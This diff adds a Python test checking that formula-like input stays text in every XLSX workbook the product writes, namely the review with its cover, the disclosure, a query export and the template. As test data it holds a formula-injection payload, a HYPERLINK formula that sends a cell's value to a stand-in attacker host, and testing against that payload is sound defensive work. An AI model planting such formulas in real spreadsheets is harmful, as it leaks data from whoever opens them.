@@ -194,3 +194,37 @@ def test_the_page_downloads_the_review_without_a_cjk_font(no_cjk_font, demo_dir:
             response = client.get(f"/api/reports/review.{fmt}", params={"as_of": "2026-01-31"})
             assert response.status_code == 200, (fmt, response.text[:200])
             assert len(response.content) > 10_000
+
+
+def test_no_xlsx_the_product_writes_holds_a_formula(tmp_path: Path) -> None:
+    """Register text and user input that look like formulas stay text in every workbook:
+    the review (its cover too), the disclosure, a query export and the template."""
+    from web import FORMULA, hostile_store
+
+    from lianfang.ingest.template import write_template
+    from lianfang.queries.exports import to_xlsx
+    from lianfang.reports import disclosure
+
+    leak = '=HYPERLINK("http://evil/leak?d="&A1,"点击")'
+    with hostile_store(tmp_path / "data", tmp_path) as store:
+        built = review.build(store, AS_OF)
+        rows = disclosure.disclosure_rows(store)
+        exported = run(store, "unmitigated-high-risks", {"as_of": AS_OF}).rows
+    built.organisation, built.scope = leak, "+1+1"
+    assert any(FORMULA in r["risk"] for r in rows)
+    books = {
+        "review": xlsx_report.write_xlsx(built),
+        "disclosure": disclosure.write_xlsx(rows, leak),
+        "query": to_xlsx(exported, list(exported[0]), "q"),
+        "template": write_template(tmp_path / "t.xlsx").read_bytes(),
+    }
+    for name, data in books.items():
+        book = openpyxl.load_workbook(io.BytesIO(data))
+        formulas = [
+            (sheet.title, cell.coordinate)
+            for sheet in book.worksheets
+            for line in sheet.iter_rows()
+            for cell in line
+            if cell.data_type == "f" or str(cell.value or "").startswith(("=", "+", "@", "-"))
+        ]
+        assert formulas == [], name
